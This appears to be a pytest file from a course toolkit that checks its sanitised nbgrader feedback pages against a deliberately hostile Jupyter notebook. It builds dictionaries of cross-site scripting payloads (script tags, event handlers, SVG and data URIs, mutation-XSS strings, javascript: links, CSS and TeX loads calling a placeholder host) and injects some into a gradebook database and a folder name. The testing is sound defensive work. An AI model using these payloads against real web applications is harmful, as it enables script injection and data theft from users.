"""Pages of a hostile notebook: nothing of it runs, nothing is loaded from elsewhere; seen by eye and by a browser."""

import base64
import contextlib
import json
import re
import socketserver
import subprocess
import threading
import time
from pathlib import Path

import nbformat
import nbgrader
import pytest
from bs4 import BeautifulSoup
from conftest import ASSIGNMENT, CHROMIUM, needs_browser, run, small_notebook
from nbconvert import HTMLExporter
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell
from test_coursekit import serving
from test_outputs import JPEG, PNG
from traitlets.config import Config

from coursekit.course import SOURCE
from coursekit.trust import feedback
from coursekit.trust.feedback import formula, markdown

# -------------------------------------------------------------------------------- what is hostile

# Run, this leaves a mark in the page. HOST is where a listener waits for whatever is loaded.
MARK = "document.documentElement.setAttribute('data-mark', 1);"
TAG = "document.documentElement.dataset.mark = 1"  # without a comma, for tags
LOADED = "http://HOST/loaded"
SCRIPT = f"<script>{MARK} fetch('{LOADED}')</script>"
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{MARK}"><image href="{LOADED}"/>{SCRIPT}</svg>'
SVG_URI = "data:image/svg+xml;base64," + base64.b64encode(SVG.encode()).decode()
HTML_URI = "data:text/html;base64," + base64.b64encode(SCRIPT.encode()).decode()

HTML = {
    "script": SCRIPT,
    "script from elsewhere": f'<script src="{LOADED}.js"></script>',
    "script in capitals": f"<ScRiPt>{MARK}</sCrIpT>",
    "script as a module": f'<script type="module">import "{LOADED}.mjs"</script>',
    "handler": f'<img src=x onerror="{MARK}">',
    "handler, no quotes": f"<img/src=x/onerror={MARK.replace(' ', '')}>",
    "handler of an allowed tag": f'<details open ontoggle="{MARK}"><summary onclick="{MARK}">a</summary></details>',
    "focus": f'<input autofocus onfocus="{MARK}">',
    "animation": f'<style>@keyframes x{{}}</style><b style="animation:x" onanimationstart="{MARK}">b</b>',
    "picture": f'<img src="{LOADED}.png"><img srcset="{LOADED}2.png 1x"><picture><source srcset="{LOADED}3.png"></picture>',
    "frame": f'<iframe src="{LOADED}"></iframe><iframe srcdoc="{SCRIPT}"></iframe><iframe src="javascript:{MARK}"></iframe>',
    "frame of data": f'<iframe src="{HTML_URI}"></iframe><object data="{HTML_URI}"></object><embed src="{SVG_URI}">',
    "object": f'<object data="{LOADED}"></object><embed src="{LOADED}"><applet code="{LOADED}"></applet>',
    "drawing": SVG,
    "style": f"<style>body{{background: url({LOADED}.css.png)}} @import '{LOADED}.css';</style>",
    "style of a tag": f'<p style="background-image: url({LOADED}.p.png)">a</p>',
    "sheet": f'<link rel="stylesheet" href="{LOADED}.css"><link rel="prefetch" href="{LOADED}"><link rel=preconnect href="{LOADED}">',
    "base": f'<base href="{LOADED}/">',
    "refresh": f'<meta http-equiv="refresh" content="0; url={LOADED}">',
    "policy": '<meta http-equiv="Content-Security-Policy" content="script-src *">',
    "form": f'<form action="{LOADED}" id=f><input name=a></form><script>f.submit()</script>',
    "sound": f'<video src="{LOADED}.mp4" autoplay poster="{LOADED}.png"></video><audio src="{LOADED}" autoplay></audio>',
    "formula": f'<math><maction actiontype="statusline" xlink:href="javascript:{MARK}"><mtext><img src=x onerror="{MARK}">',
    "parser's confusion": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={MARK}&gt;">',
    "text area": f'<textarea><img title="</textarea>{SCRIPT}"></textarea>',
    "comment": f"<!--><img src=x onerror={MARK}>-->",
    "xml": f'<?xml version="1.0"?><![CDATA[{SCRIPT}]]>',
    "cut off": f'<img src="{LOADED}.png" onerror="{MARK}"',
    "end of the page": f"</div></div></div></body></html>{SCRIPT}",
    "names of formgrader's": '<input id="test-double" class="score"><div id="notebook"></div><form name="getElementById">',
    "frame of old": f'<frameset><frame src="{LOADED}"></frameset>',
    "portal": f'<portal src="{LOADED}"></portal><template shadowrootmode="open">{SCRIPT}</template>',
}
MARKDOWN = {
    "link": f"[click](javascript:{MARK}) <javascript:{MARK}> [data]({HTML_URI})",
    "link in disguise": f"[a](java&#115;cript:{MARK}) [b](\x01javascript:{MARK}) [c](files/javascript:{MARK})",
    "link into Jupyter": "[a](/formgrader/manage_students/%22;alert(1)//) [b](/hub/logout)",
    "picture": f"![a]({LOADED}.png) ![b](//HOST/loaded.png) ![c][1]\n\n[1]: {LOADED}",
    "picture of data": f"![a]({SVG_URI}) ![b]({HTML_URI}) ![c](data:image/png;base64,{base64.b64encode(SVG.encode()).decode()})",
    "picture with a handler": f'![a" onerror="{MARK}](x" onerror="{MARK})',
    "attachment": "![a](attachment:a.png) ![b](attachment:b.png) ![c](attachment:c)",
    "code": f"```<script>\n{SCRIPT}\n```\n\n```mermaid\n{SCRIPT}\n```\n\n`{SCRIPT}`\n\n    {SCRIPT}",
    "code's language": f'```"><img src=x onerror={MARK}>\na\n```',
    "heading": f"# {SCRIPT} <b onclick={MARK}>",
    "table": f"|{SCRIPT}|\n|-|\n|<img src=x onerror={MARK}>|",
    "tex": f"$\\href{{javascript:{MARK}}}{{x}}$ $\\text{{{SCRIPT}}}$ $$\\unicode{{x}}\\class{{a}}{{{SCRIPT}}}$$ $</math>{SCRIPT}$",
    "tex of pictures": f"$\\includegraphics{{{LOADED}}}$ \\begin{{align}}{SCRIPT}\\end{{align}} $\\style{{background:url({LOADED})}}{{x}}$",
    "address": f"{LOADED} https://HOST/loaded?<script>",
    "entities": "&lt;script&gt;document.documentElement.setAttribute('data-mark',1)&lt;/script&gt;",
    "footnote": f"[^1]\n\n[^1]: {SCRIPT}",
}
DISPLAYED = {
    "text/html": SCRIPT + HTML["handler"],
    "application/javascript": MARK,
    "image/svg+xml": SVG,
    "text/markdown": SCRIPT + MARKDOWN["link"],
    "text/latex": f"$\\text{{{SCRIPT}}}$",
    "text/vnd.mermaid": SCRIPT,
    "application/vnd.jupyter.widget-view+json": {"model_id": "</script>" + SCRIPT},
    "application/pdf": "JVBERi0=",
    "image/jpeg": '" onerror="' + MARK,
    "text/plain": SCRIPT + "\x1b]8;;javascript:alert(1)\x07a\x1b[31m<b>",
}


def hostile(host, *more):
    """A notebook with all of this in all places that a notebook has."""
    cells = [*more]
    for text in [*HTML.values(), *MARKDOWN.values()]:
        cells.append(new_markdown_cell(text))
        cells.append(new_markdown_cell(f"a {text} b"))
    cells[-1].attachments = {
        "a.png": {"image/svg+xml": base64.b64encode(SVG.encode()).decode()},
        "b.png": {"text/html": base64.b64encode(SCRIPT.encode()).decode()},
    }
    for kind in ("display_data", "execute_result"):
        outputs = [new_output(kind, data={mime: data}) for mime, data in DISPLAYED.items()]
        metadata = {
            "text/html": {"isolated": True},
            "image/png": {"width": f'1" onload="{MARK}', "alt": f'"><img src=x onerror="{MARK}">'},
        }
        outputs.append(new_output(kind, data={"image/png": PNG, "text/html": SCRIPT}, metadata=metadata))
        cells.append(new_code_cell(SCRIPT, outputs=outputs, metadata={"tags": [f'"><img src=x onerror="{TAG}">']}))
    cells.append(new_code_cell(f"%%html\n{SCRIPT}", outputs=[new_output("stream", name="stdout", text=SCRIPT)]))
    cells.append(new_code_cell("1", outputs=[new_output("error", ename=SCRIPT, evalue=SCRIPT, traceback=[SCRIPT])]))
    cells.append(new_raw_cell(SCRIPT, metadata={"raw_mimetype": "text/html"}))
    cells.append(new_raw_cell(HTML["handler"]))
    state = {"application/vnd.jupyter.widget-state+json": {"state": {}, "a": "</script>" + SCRIPT}}
    metadata = {
        "widgets": state,
        "title": f"</title>{SCRIPT}",
        "language_info": {"name": "html", "pygments_lexer": "html"},
    }
    notebook = new_notebook(cells=cells, metadata=metadata)
    return nbformat.from_dict(json.loads(json.dumps(notebook).replace("HOST", host)))


# -------------------------------------------------------------------------------- the pages


def page(notebook, template="feedback", safe=True):
    """nbgrader's page of `notebook`, with our configuration or without."""
    folder = Path(nbgrader.__file__).parent / "server_extensions" / "formgrader"
    c = Config()
    c.HTMLExporter.extra_template_basedirs = [str(folder / "templates")]
    if safe:
        feedback.configure(c)
    c.HTMLExporter.template_name = template
    css = folder / "static" / "node_modules" / "bootstrap" / "dist" / "css"
    c.HTMLExporter.extra_template_paths = [str(css)]
    resources = {
        "nbgrader": {"notebook": "small", "score": 2, "max_score": 9, "late_penalty": 0},
        "index": 0,
        "total": 1,
    }
    resources |= {"student": f"<img src=x onerror={MARK}>", "base_url": "", "notebook_path": '"><b>'}
    exporter = HTMLExporter(config=c)
    exporter.register_preprocessor(add_grades)
    return exporter.from_notebook_node(notebook, resources)[0]


def add_grades(notebook, resources):
    """What nbgrader's GetGrades adds from the gradebook."""
    for cell in notebook.cells:
        if "nbgrader" in cell.metadata:
            cell.metadata.nbgrader |= {"score": 1, "points": 2, "comment": "**Good** $x^2$." + SCRIPT}
    return notebook, resources


def graded():
    """The cells of the small course, as a graded notebook has them."""
    return [nbformat.from_dict({**cell, "source": "".join(cell["source"])}) for cell in small_notebook()["cells"]]


PLAIN = """a abbr b blockquote body br code del details div em h1 h2 h3 h4 h5 h6 head hr html i img kbd li main mark meta nav ol
    p pre s small span strong style sub summary sup table tbody td th thead title tr u ul
    math mfrac mi mn mo mover mrow mspace msqrt msub msubsup msup mtable mtd mtext mtr munder munderover""".split()
ATTRIBUTES = {"class", "style", "lang", "charset", "alt", "open", "colspan", "tabindex", "width", "height", "display"}
ATTRIBUTES |= {
    "name",
    "href",
    "src",
    "content",
    "http-equiv",
    "type",
    "id",
    "displaystyle",
    "scriptlevel",
    "stretchy",
    "lspace",
}
ATTRIBUTES |= {"rspace"}


def test_the_feedback_of_a_hostile_notebook_holds_nothing_but_text_and_pictures():
    soup = BeautifulSoup(page(hostile("127.0.0.1:9", *graded())), "html.parser")
    assert {tag.name for tag in soup.find_all(True)} <= set(PLAIN)
    policy = soup.head.find(True)
    assert (policy["http-equiv"], policy["content"][:19]) == ("Content-Security-Policy", "default-src 'none';")
    for tag in soup.find_all(True):
        assert set(tag.attrs) <= ATTRIBUTES, tag
        assert "url(" not in tag.get("style", "") and "position" not in tag.get("style", "")
        assert re.match(r"#[\w-]+$", tag.get("href", "#a")), tag
        assert re.match(r"data:image/(png|jpeg);base64,", tag.get("src", "data:image/png;base64,")), tag
        assert tag.name in ("a", "meta", "div") or not {"name", "id", "content", "http-equiv"} & set(tag.attrs), tag
        assert re.match(r"(toc|notebook|notebook-container|cell-id=cell-\d+)$", tag.get("id", "toc")), tag
    assert len(soup.find_all("img")) == 2
    shown = soup.get_text()
    assert "document.documentElement.setAttribute" in shown and "Good" in shown


def test_what_a_student_did_not_break_is_there():
    notebook = new_notebook(cells=graded())
    notebook.cells[2].outputs = [new_output("display_data", data={"image/png": PNG, "text/plain": "a figure"})]
    notebook.cells[3].outputs = [new_output("stream", text="right. \x1b[31mWell\x1b[0m done!\n")]
    notebook.cells[6].source = "Because $\\frac{1}{2} x^2$.\n\n![mine](attachment:mine.png)"
    notebook.cells[6].attachments = {"mine.png": {"image/jpeg": JPEG}}
    soup = BeautifulSoup(page(notebook), "html.parser")
    assert [tag["src"] for tag in soup.find_all("img")] == [
        f"data:image/png;base64,{PNG}",
        f"data:image/jpeg;base64,{JPEG}",
    ]
    assert soup.find_all("img")[1]["alt"] == "mine"
    assert "right. Well done!" in soup.get_text()
    assert soup.find("span", "ansi-red-fg").get_text() == "Well"
    assert soup.find("span", "k") and soup.find("mfrac")
    assert "small (Score: 2.0 / 9.0)" in soup.get_text()
    assert {tag["name"] for tag in soup.find_all("a", {"name": True})} >= {"top", "test-double", "explain"}
    assert [tag.get_text() for tag in soup.find_all("strong")] == ["Good"] * 3


MEANT = {
    "**a** *b* ~~c~~": "<p><strong>a</strong> <em>b</em> <del>c</del></p>",
    "a < b & c &amp; d &nbsp;é": "<p>a &lt; b &amp; c &amp; d \xa0é</p>",
    "<details><summary>Hint 1: a &amp; b</summary>\n\nuse `a<b`\n</details>": "<details><summary>Hint 1: a &amp; b</summary>\n"
    "<p>use <code>a&lt;b</code></p>\n</details>",
    "a<br>b <sub>c</sub>": "<p>a<br/>b <sub>c</sub></p>",
    "<b>open": "<p><b>open</b></p>",
    "</div></details> a": "&lt;/div&gt; a",
    "## A *b*": "<h2>A <em>b</em></h2>",
    "[words](https://a.org/x?y&z)": "<p>words (https://a.org/x?y&amp;z)</p>",
    "<https://a.org>": "<p>https://a.org</p>",
    "![a *b*](a.png)": "<p>[picture: a b]</p>",
    "- [x] a\n- b": "<ul>\n<li>☑ a</li>\n<li>b</li>\n</ul>",
    "```\na<b\n```": "<pre>a&lt;b\n</pre>",
    "| a |\n|:-:|\n| b |": '<table>\n<thead>\n<tr>\n<th style="text-align:center">a</th>\n</tr>\n</thead>\n<tbody>\n'
    '<tr>\n<td style="text-align:center">b</td>\n</tr>\n</tbody>\n</table>',
    "costs $5": "<p>costs $5</p>",
    "$x_1$": "<p><math><msub><mi>x</mi><mn>1</mn></msub></math></p>",
}


@pytest.mark.parametrize(("source", "expected"), MEANT.items())
def test_markdown_is_what_it_means(source, expected):
    assert markdown(source).strip() == expected


def test_every_formula_of_the_course_is_one():
    found = set()
    for path in SOURCE.glob("*/*.ipynb"):
        for cell in nbformat.read(path, as_version=4).cells:
            text = (
                re.sub(r"```.*?```|`[^`]*`", "", cell.source, flags=re.DOTALL) if cell.cell_type == "markdown" else ""
            )
            found |= {display or inline for display, inline in re.findall(r"\$\$(.+?)\$\$|\$(.+?)\$", text, re.DOTALL)}
    assert len(found) > 20
    assert [tex for tex in found if not formula(tex).startswith("<math")] == []


def test_what_is_no_formula_stays_as_it_is_and_nothing_is_too_deep():
    assert formula(r"\foo{<b>}") == r"<code>\foo{&lt;b&gt;}</code>"
    assert formula(r"$\displaystyle x^{2}$").startswith("<math")
    for piece in (r"\sqrt{", "{", r"\hat ", r"\left(", "^{x", r"\begin{matrix}", r"\def\a{\a\a}\a "):
        for times in (10, 150, 500, 100_000):
            assert formula(piece * times).startswith(("<code>", "<math"))


def test_text_of_any_kind_becomes_a_page_soon():
    began = time.perf_counter()
    for piece in (
        "[",
        "![",
        "*a ",
        "_*",
        "`",
        "<",
        "<b><i>",
        "<details>",
        "$",
        "$$",
        "\\\\(",
        "> ",
        "- ",
        "  - ",
        "|-",
        "a@b.",
        "&a",
    ):
        text = (piece * 5000)[:9_999]
        BeautifulSoup(markdown(text), "html.parser")
    notebook = new_notebook(
        cells=[new_markdown_cell("\\\\(" * 3000) for _ in range(200)] + [new_code_cell("'" * 200_000)]
    )
    assert len(page(notebook)) < 10_000_000
    assert time.perf_counter() - began < 60


# -------------------------------------------------------------------------------- in a browser


@contextlib.contextmanager
def listening():
    """A listener on loopback: its address, and the first lines of all that is sent to it."""
    heard = []

    class Listen(socketserver.StreamRequestHandler):
        timeout = 2

        def handle(self):
            with contextlib.suppress(OSError):
                heard.append(self.rfile.readline(200))

    with socketserver.ThreadingTCPServer(("127.0.0.1", 0), Listen) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"127.0.0.1:{server.server_address[1]}", heard
        server.shutdown()


def browse(url, folder):
    """What a browser makes of `url`: (the page's HTML in the end, the addresses of all that it asked for)."""
    log = folder / "net.json"
    command = [CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run"]
    command += [
        "--disable-background-networking",
        "--disable-component-update",
        "--disable-sync",
        "--disable-extensions",
    ]
    command += [
        f"--user-data-dir={folder / 'profile'}",
        f"--log-net-log={log}",
        "--virtual-time-budget=8000",
        "--dump-dom",
    ]
    finished = subprocess.run([*command, url], capture_output=True, text=True, timeout=120)
    asked = set(re.findall(r'"url":"((?:https?|wss?|file):[^"]*)"', log.read_text()))
    own = {address for address in asked if re.match(r"https?://[\w.-]+\.(google|googleapis|gstatic)\.com/", address)}
    return finished.stdout, asked - own


def marked(dom):
    """Did a script of the notebook's run?"""
    return bool(re.search(r"<html[^>]*data-mark", dom))


@needs_browser
@pytest.mark.slow
def test_a_browser_runs_and_loads_nothing_of_a_hostile_notebook(tmp_path):
    with listening() as (host, heard):
        path = tmp_path / "small.html"
        path.write_text(page(hostile(host, *graded())), "utf-8")
        dom, asked = browse(path.as_uri(), tmp_path)
    assert "What may be shown" not in dom and "Student's answer" in dom
    assert not marked(dom)
    assert heard == [] and asked <= {path.as_uri()}


@needs_browser
@pytest.mark.slow
@pytest.mark.filterwarnings("ignore:Your element with mimetype:UserWarning")  # nbconvert's, of a widget
def test_nbgraders_own_page_would_run_it_all_and_our_policy_alone_would_stop_it(tmp_path):
    with listening() as (host, heard):
        notebook = hostile(host, *graded())
        # These leave the page at once, or stop nbconvert.
        left_out = (HTML["refresh"], HTML["form"], MARKDOWN["attachment"])
        notebook.cells = [cell for cell in notebook.cells if not any(text[:20] in cell.source for text in left_out)]
        path = tmp_path / "small.html"
        path.write_text(page(notebook, safe=False), "utf-8")
        dom, _ = browse(path.as_uri(), tmp_path)
        assert marked(dom) and heard
        heard.clear()
        head = "<head>" + feedback.HEAD.format(feedback.FEEDBACK_MAY)
        path.write_text(path.read_text("utf-8").replace("<head>", head, 1), "utf-8")
        dom, _ = browse(path.as_uri(), tmp_path)
    assert not marked(dom) and not any(heard)  # but for connections on which nothing is sent: a preconnect


PREPARE = """
import sqlite3, sys
from coursekit.course import open_course

api = open_course(sys.argv[1])
for result in (api.generate_assignment({0!r}), api.autograde({0!r}, "ana"), api.generate_feedback({0!r})):
    assert result["success"], result
with sqlite3.connect("gradebook.db") as database:
    name = "<img src=x onerror=document.documentElement.setAttribute('data-mark',1)>"
    database.execute("UPDATE student SET first_name = ?, last_name = ?", (name, name))
"""
STOCK = """
c.Autograde.exporter_class = "nbconvert.exporters.NotebookExporter"
c.Autograde.sanitize_preprocessors = ["nbgrader.preprocessors.OverwriteCells"]
c.Autograde.autograde_preprocessors = [f"nbgrader.preprocessors.{name}" for name in ("Execute", "SaveAutoGrades")]
"""


@needs_browser
@pytest.mark.slow
def test_formgrader_shows_a_hostile_notebook_and_runs_only_itself(checkout, tmp_path):
    with open(checkout / "nbgrader_config.py", "a") as file:
        file.write(STOCK)
    (checkout / "prepare.py").write_text(PREPARE.format(ASSIGNMENT))
    folder = checkout / "submitted" / "ana" / ASSIGNMENT
    folder.mkdir(parents=True)
    (folder / "small.ipynb").write_text(json.dumps(small_notebook()), "utf-8")
    odd = checkout / "submitted" / f"<img src=x onerror={MARK.replace(' ', '')}>" / ASSIGNMENT
    odd.mkdir(parents=True)
    run(checkout, "prepare", str(checkout))
    graded_at = checkout / "autograded" / "ana" / ASSIGNMENT / "small.ipynb"
    with listening() as (host, heard), serving(checkout, "jupyterlab") as port:
        graded_at.chmod(0o644)
        nbformat.write(hostile(host, *graded()), graded_at)
        run(checkout, "nbgrader", "generate_feedback", ASSIGNMENT, "--force")
        made = checkout / "feedback" / "ana" / ASSIGNMENT / "small.html"
        dom, asked = browse(made.as_uri(), tmp_path)
        assert not marked(dom) and asked <= {made.as_uri()}
        place = f"http://127.0.0.1:{port}/formgrader"
        listed = run_api(port)
        dom, asked = browse(f"{place}/submissions/{listed}/", tmp_path)
        pages = ["manage_submissions/01-small", "gradebook/01-small/small", "manage_students", "gradebook"]
        others = [browse(f"{place}/{name}", tmp_path) for name in pages]
    assert not marked(dom) and heard == []
    assert all(address.startswith(f"http://127.0.0.1:{port}/") for address in asked), asked
    assert 'placeholder="2"' in dom  # the mark of the first test: formgrader's own scripts ran, and fetched it
    assert 'class="glyphicon glyphicon-question-sign"' in dom
    assert "&lt;img src=x onerror=" in dom
    assert not any(marked(dom) for dom, _ in others)
    everywhere = {address for _, asked in others for address in asked}
    assert all(address.startswith(f"http://127.0.0.1:{port}/") for address in everywhere), everywhere


def run_api(port):
    """The id of the one notebook that was handed in."""
    import urllib.request

    address = f"http://127.0.0.1:{port}/formgrader/api/submitted_notebooks/{ASSIGNMENT}/small"
    with urllib.request.urlopen(address, timeout=60) as answer:
        [submission] = [found for found in json.loads(answer.read()) if found["id"]]
    return submission["id"]
